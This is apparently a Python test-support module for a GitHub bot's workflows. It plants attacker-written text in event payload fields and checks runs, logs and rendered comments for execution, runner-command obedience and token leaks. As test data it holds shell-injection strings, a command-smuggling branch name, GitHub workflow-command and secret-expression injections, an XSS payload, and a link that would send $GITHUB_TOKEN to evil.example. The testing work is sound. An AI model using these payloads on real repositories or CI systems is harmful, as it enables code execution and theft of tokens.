"""What attackers write, put into everything of an event that people write; and a search for what came of it."""

import base64
import json
import re
import zipfile
from collections.abc import Iterator, Mapping
from html.parser import HTMLParser
from io import BytesIO
from typing import Any

import cmarkgfm
from cmarkgfm.cmark import Options

from support.workflows_act import Actions, Ran

CANARY = "CANARY"
"""A variable of every step: the file that is made where something is executed. Folders of a run are gone afterwards."""
SHELL = "$(touch $CANARY)`touch $CANARY`'$(touch $CANARY)'; touch $CANARY; '\"; touch $CANARY; \"|touch $CANARY&"
"""For a shell that meets it inside of quotes, whichever."""
LINES = (
    "--no-sandbox --config=/evil * ~ %s; touch $CANARY; $(touch $CANARY) `touch $CANARY` | touch $CANARY #\n"
    "touch $CANARY\nEOF\n::add-path::/evil\n::set-env name=PATH::/evil\n::set-output name=token::evil\n"
    "${{ secrets.REGBOT_PRIVATE_KEY }} ${{ github.token }} ${{ toJSON(secrets) }}\n"
    "@everyone <img src=x onerror=alert(1)> ![](http://evil.example/$GITHUB_TOKEN) \x1b[31m \u202e"
)
"""For one that meets it outside of quotes, for the runner's own commands and expressions, and for those who read it."""
TEXTS = {"quoted": SHELL, "lines": LINES}
BRANCH = "x;touch${IFS}$CANARY;'\"$(touch${IFS}$CANARY)`touch${IFS}$CANARY`"
"""A name that git takes."""
CODE = {"code", "pre"}
MEANT = {"h2", "h3", "h4", "p", "br", "hr", "strong", "em", "blockquote", "ul", "ol", "li", "sub", "details", "summary"}
MEANT |= {*CODE, "a", "table", "thead", "tbody", "tr", "th", "td"}
"""Elements that regbot writes."""
KEPT_ATTRIBUTES = {"href", "lang", "class", "align", "start"}
LINK = re.compile(r"(?!.*(?:evil|CANARY))(?:https?://[\w.:/#?=&%-]+|[\w-]+)")
MARKER = re.compile(r" regbot:[a-z]+(?: (?:\{[^<>{}]*\}|\d+))? ")
COMMIT = "a1" * 20
"""The hash of an attacker's commit."""
MENTION = re.compile(
    rf"(?<![\w/])@[A-Za-z0-9][\w/-]*|\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?):? #\d+|\bGH-\d+|\b{COMMIT}\b",
    re.IGNORECASE,
)
"""Of a person or a team; what closes an issue at the merge; an issue or that commit."""
OBEYED = re.compile(r"⚙  ::.*evil|The `(?:add-path|set-env)` command is disabled")
"""What ``act`` says where a line of a log was one of the runner's own commands."""
FREE = {"title", "display_title", "body", "message", "description", "subject"}
"""Keys of an event whose values people write; and those of a label and a person below them. A branch is BRANCH."""
NAMED = {"label": {"name"}, "labels": {"name"}, "user": {"login"}, "author": {"name"}}


def hostile(payload: Mapping[str, Any], text: str) -> dict[str, Any]:
    """``payload`` with ``text`` wherever a person could have written it."""

    def within(value: Any, key: str) -> Any:
        if isinstance(value, dict):
            keys = FREE | NAMED.get(key, set())
            return {
                each: text if each in keys and isinstance(old, str) else within(old, each)
                for each, old in value.items()
            }
        if isinstance(value, list):
            return [within(each, key) for each in value]
        return value

    changed: dict[str, Any] = within(dict(payload), "")
    assert json.dumps(text)[1:-1] in json.dumps(changed) or "schedule" in payload
    return changed


def leaks(actions: Actions) -> list[str]:
    """Where something planted was executed, or obeyed by the runner, or a token or secret came to light."""
    found = [f"{file} was made" for file in actions.folder.parent.glob(CANARY)]
    tokens = [*actions.hub.tokens, *actions.secrets.values()]
    needles = [needle for token in tokens for needle in _forms(token)]
    found += [f"run {ran.run.id} obeyed a line of its log" for ran in actions.runs if OBEYED.search(ran.log)]
    for place, content in _public(actions):
        found += [f"{place} holds a token" for needle in needles if needle in content]
    return found


def inert(markdown: str) -> list[str]:
    """What a comment would load, link to, hide or shout when GitHub shows it, and regbot never means; [] if inert."""
    return Page(markdown).found


class Page(HTMLParser):
    """What GitHub's own renderer makes of it, with raw HTML let through, which is the harder test."""

    def __init__(self, markdown: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.tags: list[str] = []
        self.rows: list[int] = []
        """The cells of each row of a table."""
        self.words = ""
        self.prose = ""
        """The words outside of code."""
        self.comments = 0
        self._code = self._folds = 0
        self.feed(cmarkgfm.github_flavored_markdown_to_html(markdown, Options.CMARK_OPT_UNSAFE))
        self.close()
        self.found += ["<details> is not closed"] * self._folds

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self._code += tag in CODE
        self._folds += tag == "details"
        if tag == "tr":
            self.rows.append(0)
        elif tag in ("td", "th"):
            self.rows[-1] += 1
        if tag not in MEANT:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in KEPT_ATTRIBUTES or not LINK.fullmatch(value or ""):
                self.found.append(f"<{tag} {name}={value}>")

    def handle_endtag(self, tag: str) -> None:
        self._code -= tag in CODE
        self._folds -= tag == "details"
        if self._folds < 0:
            self.found.append("</details>")

    def handle_comment(self, data: str) -> None:
        self.comments += 1
        if not MARKER.fullmatch(data):
            self.found.append(f"<!--{data}-->")

    def handle_data(self, data: str) -> None:
        self.words += data
        if not self._code:
            self.prose += data
            self.found += MENTION.findall(data)


def _forms(token: str) -> list[bytes]:
    return [token.encode(), base64.b64encode(f"x-access-token:{token}".encode())]


def _public(actions: Actions) -> Iterator[tuple[str, bytes]]:
    """Everything that others can read afterwards."""
    repo = actions.repo
    for ran in actions.runs:
        yield f"the log of run {ran.run.id}", _log(ran)
        for artifact in ran.run.artifacts:
            yield f"the artifact {artifact.name}", artifact.content
            with zipfile.ZipFile(BytesIO(artifact.content)) as archive:
                for name in archive.namelist():
                    yield f"{name} in the artifact {artifact.name}", archive.read(name)
    for comment in repo.all_comments.values():
        yield f"comment {comment.id}", comment.body.encode()
    for check in repo.all_checks.values():
        yield f"check run {check.id}", f"{check.title}{check.summary}{check.text}".encode()
    for dispatch in repo.dispatched:
        yield f"a dispatch of {dispatch.workflow}", str(dispatch.inputs).encode()
    for pull in repo.pulls.values():
        yield f"pull request {pull.number}", f"{pull.title}{pull.body}".encode()
    refs = repo.git.refs("refs/heads")
    yield "the branches", repo.git.run("log", "-p", *refs.values()).encode() if refs else b""


def _log(ran: Ran) -> bytes:
    """Without the line in which ``act`` shows the output of the action that makes the App's token; GitHub masks it."""
    lines = ran.log.splitlines()
    return "\n".join(line for line in lines if "⚙  ::set-output:: token=ghs_" not in line).encode()
